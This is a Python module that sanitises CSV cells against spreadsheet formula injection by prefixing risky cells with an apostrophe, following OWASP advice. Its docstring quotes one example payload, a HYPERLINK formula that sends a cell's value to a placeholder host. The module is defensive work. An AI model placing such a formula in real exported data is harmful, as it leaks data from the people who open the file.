"""The CSV the hub writes (the access log, the daily report): one writer, every cell made safe for
spreadsheet programs.

A cell whose text starts with = + - @ (or a tab or carriage return before one) is a formula to
Excel and LibreOffice: an operator name or a rule id such as `=HYPERLINK("http://x/?"&A1)` would
run on the supervisor's machine. Per OWASP's CSV injection advice such a cell is written with a
leading apostrophe, which the spreadsheet shows as plain text. defusedcsv, the library for this,
leaves tab and carriage return out, so the rule is kept here, once.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from numbers import Number
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """A cell as written: numbers and empty cells unchanged, text a spreadsheet would run prefixed with '."""
    if value is None or (isinstance(value, Number) and not isinstance(value, bool)):
        return value  # a number is never a formula
    text = str(value)
    # Leading spaces are skipped too: some programs trim them before looking for a formula.
    if text.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """Rows as CSV text with every cell made safe, after a BOM so spreadsheet programs read the Chinese as UTF-8."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return "\ufeff" + out.getvalue()
